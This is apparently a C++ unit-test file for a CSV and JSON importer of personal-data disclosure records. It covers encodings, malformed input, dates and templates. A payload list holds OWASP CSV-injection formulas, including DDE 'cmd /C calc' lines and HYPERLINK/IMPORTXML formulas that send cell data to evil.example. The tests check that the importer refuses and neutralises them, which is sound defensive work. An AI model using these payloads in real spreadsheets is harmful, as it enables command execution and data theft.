// tools/import and core/csv: templates round-trip through the importer;
// hostile files (quotes, newlines, BOM, Big5, NUL, invalid UTF-8, formulas,
// huge fields, unknown columns) give clear, located errors.
#include <iconv.h>

#include <string>
#include <vector>

#include "absl/strings/str_cat.h"
#include "absl/strings/str_replace.h"
#include "absl/strings/str_split.h"
#include "core/csv.h"
#include "core/file_util.h"
#include "disclosure/v1/database.pb.h"
#include "disclosure/v1/request.pb.h"
#include "gmock/gmock.h"
#include "google/protobuf/util/message_differencer.h"
#include "gtest/gtest.h"
#include "sheets/examples.h"
#include "sheets/proto_csv.h"
#include "sheets/proto_json.h"
#include "sheets/tables.h"
#include "tests/testing/status_matchers.h"
#include "tests/testing/test_data.h"
#include "tools/import/csv_importer.h"

namespace disclosure::import {
namespace {

using namespace ::disclosure::sheets;  // the layouts under test

namespace v1 = disclosure::v1;
using ::disclosure::testing::StatusIs;
using ::disclosure::testing::TempDir;
using ::testing::HasSubstr;

std::string Write(const TempDir& dir, const std::string& name,
                  const std::string& content) {
  const std::string path = dir.File(name);
  EXPECT_TRUE(WriteNewFile(path, content, 0644).ok());
  return path;
}

TEST(CsvTest, QuotedFieldsBomAndLineEndings) {
  auto t = ParseCsv(
      "\xEF\xBB\xBF"
      "a,b\r\n\"x, y\",\"multi\nline \"\"q\"\"\"\r\n\n",
      CsvLimits());
  ASSERT_TRUE(t.ok()) << t.status();
  EXPECT_EQ(t->encoding, "UTF-8 with BOM");
  ASSERT_EQ(t->rows.size(), 2u);
  EXPECT_EQ(t->rows[1].fields[0], "x, y");
  EXPECT_EQ(t->rows[1].fields[1], "multi\nline \"q\"");
  EXPECT_EQ(t->rows[1].line, 2u);
}

TEST(CsvTest, Big5IsDetectedAndConverted) {
  const std::string utf8 = "code,name_zh\n157,調查、統計與研究分析\n";
  iconv_t cd = iconv_open("CP950", "UTF-8");
  std::string big5(utf8.size() * 2, '\0');
  char* in = const_cast<char*>(utf8.data());
  size_t in_left = utf8.size(), out_left = big5.size();
  char* out = big5.data();
  ASSERT_NE(iconv(cd, &in, &in_left, &out, &out_left), static_cast<size_t>(-1));
  iconv_close(cd);
  big5.resize(big5.size() - out_left);
  ASSERT_NE(big5, utf8);
  auto t = ParseCsv(big5, CsvLimits());
  ASSERT_TRUE(t.ok()) << t.status();
  EXPECT_EQ(t->encoding, "Big5/CP950");
  EXPECT_EQ(t->rows[1].fields[1], "調查、統計與研究分析");
}

// What a spreadsheet saves as "Unicode text": UTF-16 with a byte-order
// mark, either byte order, characters beyond the BMP included.
TEST(CsvTest, Utf16IsConverted) {
  const std::string utf8 = "code,name_zh\n157,調查研究𠀀\n";
  for (const char* to : {"UTF-16LE", "UTF-16BE"}) {
    iconv_t cd = iconv_open(to, "UTF-8");
    std::string wide(utf8.size() * 4, '\0');
    char* in = const_cast<char*>(utf8.data());
    size_t in_left = utf8.size(), out_left = wide.size();
    char* out = wide.data();
    ASSERT_NE(iconv(cd, &in, &in_left, &out, &out_left),
              static_cast<size_t>(-1));
    iconv_close(cd);
    wide.resize(wide.size() - out_left);
    const std::string bom =
        std::string(to) == "UTF-16LE" ? "\xFF\xFE" : "\xFE\xFF";
    auto t = ParseCsv(bom + wide, CsvLimits());
    ASSERT_TRUE(t.ok()) << to << ": " << t.status();
    EXPECT_EQ(t->encoding, to);
    EXPECT_EQ(t->rows[1].fields[1], "調查研究𠀀");
  }
  // A lone surrogate or an odd length is refused, naming the problem.
  EXPECT_THAT(ParseCsv(std::string("\xFF\xFE\x00\xD8\x41\x00", 6), CsvLimits())
                  .status(),
              StatusIs(absl::StatusCode::kInvalidArgument,
                       HasSubstr("broken character")));
  EXPECT_THAT(ParseCsv(std::string("\xFF\xFE\x41", 3), CsvLimits()).status(),
              StatusIs(absl::StatusCode::kInvalidArgument,
                       HasSubstr("odd number of bytes")));
}

TEST(CsvTest, HostileInputGivesLocatedErrors) {
  EXPECT_THAT(ParseCsv(std::string("a,b\nc,\0d\n", 9), CsvLimits()),
              StatusIs(absl::StatusCode::kInvalidArgument,
                       HasSubstr("line 2, column 3: NUL")));
  EXPECT_THAT(ParseCsv("a\n\"open\n", CsvLimits()),
              StatusIs(absl::StatusCode::kInvalidArgument,
                       HasSubstr("line 2, column 1: quoted")));
  EXPECT_THAT(
      ParseCsv("a\nb\"c\n", CsvLimits()),
      StatusIs(absl::StatusCode::kInvalidArgument, HasSubstr("quote inside")));
  EXPECT_THAT(ParseCsv("a\n\"b\"c\n", CsvLimits()),
              StatusIs(absl::StatusCode::kInvalidArgument,
                       HasSubstr("after the closing quote")));
  // Bytes that are neither UTF-8 nor Big5.
  EXPECT_THAT(
      ParseCsv("a\n\xff\xff\xff\n", CsvLimits()),
      StatusIs(absl::StatusCode::kInvalidArgument, HasSubstr("not UTF-8")));
  CsvLimits small;
  small.max_field_bytes = 100;
  EXPECT_THAT(ParseCsv("a\n" + std::string(1000, 'x') + "\n", small),
              StatusIs(absl::StatusCode::kInvalidArgument,
                       HasSubstr("longer than 100")));
  small.max_rows = 3;
  EXPECT_THAT(ParseCsv("a\nb\nc\nd\n", small),
              StatusIs(absl::StatusCode::kInvalidArgument,
                       HasSubstr("more than 3 rows")));
}

TEST(CsvTest, MillionRowsStream) {
  std::string big = "request_id\n";
  for (int i = 0; i < 1'000'000; ++i) absl::StrAppend(&big, "r", i, "\n");
  size_t rows = 0;
  DN_ASSERT_OK(ForEachCsvRow(big, CsvLimits(), [&](CsvRow&) {
    ++rows;
    return absl::OkStatus();
  }));
  EXPECT_EQ(rows, 1'000'001u);
}

TEST(ProtoCsvTest, CellsOfEveryKind) {
  v1::DatabaseEntry e;
  DN_ASSERT_OK(SetCell(&e, "file_name.zh_tw", " 全民健康保險資料 "));
  DN_ASSERT_OK(SetCell(&e, "collection_ground", "ART15_1"));
  DN_ASSERT_OK(SetCell(&e, "sensitive_types", "medical_care; genetic"));
  DN_ASSERT_OK(SetCell(&e, "holding_basis",
                       "全民健康保險法|第79條;全民健康保險法|第80條"));
  DN_ASSERT_OK(SetCell(&e, "approx_subjects.approx", "23,900,000"));
  DN_ASSERT_OK(SetCell(&e, "opt_out.available", "是"));
  DN_ASSERT_OK(SetCell(&e, "modified", "2026-03-01 14:30"));
  EXPECT_EQ(e.file_name().zh_tw(), "全民健康保險資料");
  EXPECT_EQ(e.collection_ground(),
            v1::COLLECTION_GROUND_ART15_1_STATUTORY_DUTY);
  ASSERT_EQ(e.sensitive_types_size(), 2);
  EXPECT_EQ(e.holding_basis(1).article(), "第80條");
  EXPECT_EQ(e.approx_subjects().approx(), 23900000);
  EXPECT_TRUE(e.opt_out().available());
  EXPECT_EQ(e.modified().seconds(), 1772346600);  // 06:30 UTC

  EXPECT_THAT(
      SetCell(&e, "art6_ground", "art6"),
      StatusIs(absl::StatusCode::kInvalidArgument, HasSubstr("ambiguous")));
  EXPECT_THAT(SetCell(&e, "status", "gone"),
              StatusIs(absl::StatusCode::kInvalidArgument,
                       HasSubstr("draft, published, withdrawn")));
  EXPECT_THAT(
      SetCell(&e, "retention", "=HYPERLINK(\"x\")"),
      StatusIs(absl::StatusCode::kInvalidArgument, HasSubstr("formula")));
  EXPECT_THAT(SetCell(&e, "retention", "@SUM(1)"),
              StatusIs(absl::StatusCode::kInvalidArgument));
  // Spreadsheets compute "+886-2-2191-0000" (886 - 2 - 2191 - 0): refused
  // like every formula, with a way to write it.
  EXPECT_THAT(SetCell(&e, "contact.phone", "+886-2-2191-0000"),
              StatusIs(absl::StatusCode::kInvalidArgument,
                       HasSubstr("886-2-2191-0000")));
  DN_EXPECT_OK(SetCell(&e, "contact.phone", "886-2-2191-0000"));
  EXPECT_THAT(
      SetCell(&e, "approx_subjects.approx", "many"),
      StatusIs(absl::StatusCode::kInvalidArgument, HasSubstr("whole number")));
  EXPECT_THAT(SetCell(&e, "nope", "x"),
              StatusIs(absl::StatusCode::kInvalidArgument,
                       HasSubstr("unknown column")));
}

// Date cells take the forms staff type and are stored as ISO dates; a
// timestamp cell takes a date alone as midnight in Taipei.
TEST(ProtoCsvTest, DatesAsStaffTypeThem) {
  v1::DatabaseEntry e;
  DN_ASSERT_OK(SetCell(&e, "last_reviewed_at", "民國115年3月5日"));
  DN_ASSERT_OK(SetCell(&e, "next_review_due", "116/3/5"));
  DN_ASSERT_OK(SetCell(&e, "approx_subjects.as_of", "2026/1/31"));
  DN_ASSERT_OK(SetCell(&e, "modified", "115/03/01"));
  EXPECT_EQ(e.last_reviewed_at(), "2026-03-05");
  EXPECT_EQ(e.next_review_due(), "2027-03-05");
  EXPECT_EQ(e.approx_subjects().as_of(), "2026-01-31");
  EXPECT_EQ(e.modified().seconds(), 1772294400);  // 2026-02-28T16:00Z
  DN_ASSERT_OK(SetCell(&e, "modified", "2026/3/1 14:30"));
  EXPECT_EQ(e.modified().seconds(), 1772346600);
  EXPECT_THAT(SetCell(&e, "last_reviewed_at", "03/05/2026"),
              StatusIs(absl::StatusCode::kInvalidArgument,
                       HasSubstr("day and month first")));
  EXPECT_THAT(SetCell(&e, "modified", "yesterday"),
              StatusIs(absl::StatusCode::kInvalidArgument,
                       HasSubstr("民國115年3月5日")));
  // A legal basis typed as one phrase is split into law and article; a
  // whole regulation stays a law alone.
  DN_ASSERT_OK(SetCell(&e, "holding_basis",
                       "全民健康保險法第79條第1項;個人資料保護法施行細則"));
  ASSERT_EQ(e.holding_basis_size(), 2);
  EXPECT_EQ(e.holding_basis(0).statute(), "全民健康保險法");
  EXPECT_EQ(e.holding_basis(0).article(), "第79條第1項");
  EXPECT_EQ(e.holding_basis(1).statute(), "個人資料保護法施行細則");
  EXPECT_EQ(e.holding_basis(1).article(), "");
  // Text fields are left as written, even when they look like a date.
  DN_ASSERT_OK(SetCell(&e, "retention", "115/3/5"));
  EXPECT_EQ(e.retention(), "115/3/5");
}

TEST(ProtoCsvTest, QuotingForExportsAndTemplates) {
  EXPECT_EQ(CsvQuote("plain 文字"), "plain 文字");
  EXPECT_EQ(CsvQuote("a,b"), "\"a,b\"");
  EXPECT_EQ(CsvQuote("say \"hi\""), "\"say \"\"hi\"\"\"");
  // A formula-like value is neutralised, and reads back as plain text.
  EXPECT_EQ(CsvQuote("=HYPERLINK(1)"), "'=HYPERLINK(1)");
  EXPECT_EQ(CsvQuote("+886-2-2191"), "'+886-2-2191");
  EXPECT_EQ(CsvQuote("a; -2+3|=x"), "a;' -2+3|'=x");
  EXPECT_EQ(CsvQuote("-"), "-");
  auto t = ParseCsv("h\n" + CsvQuote("=1+1") + "\n", CsvLimits());
  ASSERT_TRUE(t.ok());
  EXPECT_FALSE(LooksLikeFormula(t->rows[1].fields[0]));
}

// The OWASP CSV-injection payloads, and the ways around a first-character
// check: refused on import, neutralised on export, for every cell.
const char* const kFormulaPayloads[] = {
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+2+3",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Error\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", A1), \"//a\")",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "note; =1+1",
    "note;=1+1",
    "ok;\t-2+3",
    "part|=1+1",
    "a|b; c|@SUM(A1)",
    "DDE; =DDE(\"cmd\";\"/C calc\";\"!A0\")",
};

TEST(ProtoCsvTest, OwaspFormulaPayloadsAreRefusedAndNeutralised) {
  for (const char* payload : kFormulaPayloads) {
    SCOPED_TRACE(payload);
    EXPECT_TRUE(LooksLikeFormula(payload));
    v1::DatabaseEntry e;
    EXPECT_THAT(
        SetCell(&e, "retention", payload),
        StatusIs(absl::StatusCode::kInvalidArgument, HasSubstr("formula")));
    EXPECT_THAT(
        SetCell(&e, "data_categories", payload),
        StatusIs(absl::StatusCode::kInvalidArgument, HasSubstr("formula")));
    // Written by us and read back, no piece of the cell starts a formula.
    auto t = ParseCsv("h\n" + CsvQuote(payload) + "\n", CsvLimits());
    ASSERT_TRUE(t.ok());
    ASSERT_EQ(t->rows.size(), 2u);
    for (absl::string_view item :
         absl::StrSplit(t->rows[1].fields[0], absl::ByAnyChar(";|"))) {
      EXPECT_FALSE(LooksLikeFormula(item)) << item;
    }
  }
  for (const char* text :
       {"-", "2026-01-01", "第30條", "a - b", "x;-", "C001; C003"}) {
    EXPECT_FALSE(LooksLikeFormula(text)) << text;
  }
}

// Characters a reader does not see, or sees as text, before a formula:
// every non-ASCII space, zero-width characters, the byte order mark and
// the full-width signs an IME types.
TEST(ProtoCsvTest, UnicodeSpacesZeroWidthBomAndFullWidthSignsAreNeutralised) {
  for (const char* payload :
       {"\u00a0=1+1", "\u3000=cmd|' /C calc'!A0", "\u200b=1+1",
        "\u200d@SUM(A1)", "\u2060-2+3", "\ufeff=1+1", "\u202f+1",
        "\u3000王小明", "\uff0b886-2-2191-0000", "\uff1d1+1", "\uff20SUM(A1)",
        "\uff0d2+3", "ok; \u3000=1+1", "a|\u00a0@x"}) {
    SCOPED_TRACE(payload);
    EXPECT_TRUE(LooksLikeFormula(payload));
    v1::DatabaseEntry e;
    EXPECT_THAT(
        SetCell(&e, "retention", payload),
        StatusIs(absl::StatusCode::kInvalidArgument, HasSubstr("invisible")));
    const std::string written = CsvQuote(payload);
    auto t = ParseCsv("h\n" + written + "\n", CsvLimits());
    ASSERT_TRUE(t.ok());
    for (absl::string_view item :
         absl::StrSplit(t->rows[1].fields[0], absl::ByAnyChar(";|"))) {
      EXPECT_FALSE(LooksLikeFormula(item)) << item;
    }
  }
  // Full-width text that is not a sign, and a lone full-width minus.
  for (const char* text : {"王小明", "（範例）", "\uff0d", "第３０條"})
    EXPECT_FALSE(LooksLikeFormula(text)) << text;
}

// JSON import takes a value exactly when a CSV cell does, and reads it the
// same way: every spelling of every value of an enum, numbers, garbage,
// formulas, dates and counts, for a statistics record's fields.
TEST(ProtoJsonTest, JsonAndCsvAcceptExactlyTheSameValues) {
  std::vector<std::pair<std::string, std::string>> cells;  // field, cell
  const auto* type = v1::ProviderType_descriptor();
  for (int i = 0; i < type->value_count(); ++i) {
    const auto* v = type->value(i);
    for (const std::string& spelling :
         {v->name(), EnumChoice(v), absl::StrCat(v->number()),
          absl::AsciiStrToLower(v->name())})
      cells.emplace_back("provider_type", spelling);
  }
  for (const char* cell : {"mobile", "行動電信", "telecom", "99", "-1", "",
                           "=1+1", "\u3000mobile_telecom"})
    cells.emplace_back("provider_type", cell);
  for (const char* cell : {"12", "1,234", "-3", "1.5", "x", "99999999999"})
    cells.emplace_back("identifiers_count", cell);
  for (const char* cell :
       {"2026-03-01 14:30", "2026-03-01T06:30:00Z", "115/3/1", "yesterday"})
    cells.emplace_back("sent_at", cell);
  for (const char* cell : {"審查科", "=cmd", "\ufeff@x", " 審查科 "})
    cells.emplace_back("requesting_unit", cell);
  for (const auto& [field, cell] : cells) {
    SCOPED_TRACE(field + " = \"" + cell + "\"");
    v1::ProviderRequestRecord from_csv;
    const absl::Status csv = SetCell(&from_csv, field, cell);
    v1::ProviderRequestRecord from_json;
    const absl::Status json = ParseImportJson(
        absl::StrCat("{\"", field, "\":\"", cell, "\"}"), &from_json);
    EXPECT_EQ(csv.ok(), json.ok()) << "csv: " << csv << "\njson: " << json;
    if (csv.ok() && json.ok()) {
      EXPECT_EQ(from_csv.SerializeAsString(), from_json.SerializeAsString());
    }
  }
}

TEST(ProtoJsonTest, NumbersAreRefusedForChoicesAndErrorsNameThePath) {
  v1::ProviderRequestRecord r;
  EXPECT_THAT(ParseImportJson(R"({"provider_type": 1})", &r),
              StatusIs(absl::StatusCode::kInvalidArgument,
                       ::testing::AllOf(HasSubstr("provider_type"),
                                        HasSubstr("is a number"),
                                        HasSubstr("mobile_telecom"))));
  v1::DatabaseEntry db;
  EXPECT_THAT(
      ParseImportJson(
          R"({"rights_channels": [{"right": "copy"}, {"right": 2}]})", &db),
      StatusIs(absl::StatusCode::kInvalidArgument,
               HasSubstr("rights_channels[1].right")));
  EXPECT_THAT(
      ParseImportJson(R"({"no_such_field": "x"})", &db),
      StatusIs(absl::StatusCode::kInvalidArgument, HasSubstr("no_such_field")));
  // Field names in JSON's lowerCamelCase are read too, as protobuf does.
  DN_EXPECT_OK(
      ParseImportJson(R"({"databaseId": "db1", "retention": "P10Y"})", &db));
  EXPECT_EQ(db.database_id(), "db1");
}

// A template with its example row marked as data: what a user who keeps
// the example (and types over the marker) would import.
std::string UnmarkedTemplate(const TableSpec& spec) {
  return absl::StrReplaceAll(CsvTemplate(spec), {{kExampleMarker, ""}});
}

// A template's example row is never imported: the importer refuses it and
// says to delete it or write over it.
TEST(TemplateTest, ExampleRowsAreNeverImported) {
  TempDir dir;
  for (const TableSpec& spec : sheets::AllTables()) {
    const std::string path = Write(dir, spec.name + ".csv", CsvTemplate(spec));
    ProblemList problems;
    int rows = 0;
    std::string encoding;
    auto text = ReadTableFile(path, CsvLimits(), &encoding);
    ASSERT_TRUE(text.ok()) << text.status();
    ParseTableText(
        spec, path, *text, CsvLimits(),
        [&](google::protobuf::Message&, const std::string&, size_t) { ++rows; },
        &problems);
    EXPECT_EQ(rows, 0) << spec.name;
    ASSERT_EQ(problems.size(), 1u) << spec.name;
    EXPECT_EQ(problems[0].line, 2u);
    EXPECT_THAT(problems[0].reason, HasSubstr("example row")) << spec.name;
  }
}

// Every template, filled with the example, imports back to the example.
TEST(TemplateTest, TemplatesRoundTrip) {
  TempDir dir;
  const TableSpec& dbs = **FindTable("databases");
  std::vector<TableFile> children;
  for (const char* name : {"uses", "linkages", "channels"}) {
    const TableSpec* spec = *FindTable(name);
    children.push_back({spec, Write(dir, std::string(name) + ".csv",
                                    UnmarkedTemplate(*spec))});
  }
  DatabaseImport imp = ReadDatabaseTables(
      {&dbs, Write(dir, "databases.csv", UnmarkedTemplate(dbs))}, children,
      CsvLimits());
  ASSERT_TRUE(imp.problems.empty())
      << imp.problems[0].file << ":" << imp.problems[0].line << " "
      << imp.problems[0].column << " " << imp.problems[0].reason;
  ASSERT_EQ(imp.entries.size(), 1u);
  google::protobuf::util::MessageDifferencer diff;
  std::string report;
  diff.ReportDifferencesToString(&report);
  EXPECT_TRUE(diff.Compare(ExampleDatabase(), imp.entries[0])) << report;
  EXPECT_EQ(imp.child_sources[0]["out_of_purpose_uses"][0].line, 2u);

  // The withholding template (format 2) adds its withheld field.
  children.push_back({*FindTable("withholding"),
                      Write(dir, "withholding.csv",
                            UnmarkedTemplate(**FindTable("withholding")))});
  DatabaseImport withheld = ReadDatabaseTables(
      {&dbs, dir.File("databases.csv")}, children, CsvLimits());
  ASSERT_TRUE(withheld.problems.empty()) << withheld.problems[0].reason;
  v1::DatabaseEntry expected = ExampleDatabase();
  *expected.add_withheld_fields() = ExampleWithheldField();
  EXPECT_TRUE(diff.Compare(expected, withheld.entries[0])) << report;

  ProblemList problems;
  std::vector<v1::ProviderRequestRecord> records;
  DN_ASSERT_OK(
      ReadRequestsTable(
          Write(dir, "requests.csv", UnmarkedTemplate(**FindTable("requests"))),
          CsvLimits(),
          [&](v1::ProviderRequestRecord&& r, size_t, const std::string&) {
            records.push_back(r);
          },
          &problems)
          .status());
  ASSERT_TRUE(problems.empty()) << problems[0].reason;
  ASSERT_EQ(records.size(), 1u);
  EXPECT_TRUE(google::protobuf::util::MessageDifferencer::Equals(
      records[0], ExampleRequest()));
}

// One bad cell is one problem: the rows of other tables that name its
// database are not reported as naming an unknown database.
TEST(ImporterTest, OneBadCellDoesNotCascade) {
  TempDir dir;
  const std::string dbs = Write(dir, "databases.csv",
                                "database_id,collection_ground,retention\n"
                                "a,nonsense,P1Y\n");
  const std::string uses = Write(dir, "uses.csv",
                                 "database_id,use_id,legal_ground\n"
                                 "a,u1,art16_5\n"
                                 "zzz,u2,art16_5\n");
  DatabaseImport imp =
      ReadDatabaseTables({*FindTable("databases"), dbs},
                         {{*FindTable("uses"), uses}}, CsvLimits());
  ASSERT_EQ(imp.problems.size(), 2u);
  EXPECT_EQ(imp.problems[0].column, "collection_ground");
  EXPECT_EQ(imp.problems[1].line, 3u);  // zzz is still reported
  EXPECT_THAT(imp.problems[1].reason, HasSubstr("\"zzz\" is not a database"));
}

// A file with more problems than are kept still counts every one.
TEST(ImporterTest, ProblemsBeyondThoseKeptAreCounted) {
  TempDir dir;
  std::string text = "database_id,collection_ground,retention\n";
  for (int i = 0; i < 1500; ++i) {
    absl::StrAppend(&text, "db-", i, ",nonsense,P1Y\n");
  }
  const std::string dbs = Write(dir, "databases.csv", text);
  DatabaseImport imp =
      ReadDatabaseTables({*FindTable("databases"), dbs}, {}, CsvLimits());
  EXPECT_EQ(imp.problems.size(), 1500u);
  ASSERT_EQ(imp.problems.kept().size(), import::ProblemList::kMaxKept);
  EXPECT_EQ(imp.problems[999].line, 1001u);
  EXPECT_EQ(imp.problems[999].column, "collection_ground");
}

TEST(ImporterTest, EveryProblemIsListedWithLineAndColumn) {
  TempDir dir;
  const std::string dbs =
      Write(dir, "databases.csv",
            "database_id,collection_ground,retention,bogus\n"
            "a,art15_1,P1Y,\n");
  DatabaseImport bad_header =
      ReadDatabaseTables({*FindTable("databases"), dbs}, {}, CsvLimits());
  ASSERT_EQ(bad_header.problems.size(), 1u);
  EXPECT_EQ(bad_header.problems[0].column, "bogus");
  EXPECT_EQ(bad_header.problems[0].line, 1u);

  const std::string dbs2 = Write(dir, "databases2.csv",
                                 "database_id,collection_ground,retention\n"
                                 "a,nonsense,=1+1\n"
                                 "b,art15_1,P1Y\n"
                                 "b,art15_1,P1Y\n");
  const std::string uses = Write(dir, "uses.csv",
                                 "database_id,use_id,legal_ground\n"
                                 "zzz,u1,art16_5\n"
                                 "b,u2,art99\n");
  DatabaseImport imp =
      ReadDatabaseTables({*FindTable("databases"), dbs2},
                         {{*FindTable("uses"), uses}}, CsvLimits());
  std::vector<std::string> got;
  for (const auto& p : imp.problems)
    got.push_back(absl::StrCat(p.line, ":", p.column));
  EXPECT_THAT(got, ::testing::UnorderedElementsAre(
                       "2:collection_ground", "2:retention", "4:database_id",
                       "2:database_id", "3:legal_ground"));
}

}  // namespace
}  // namespace disclosure::import
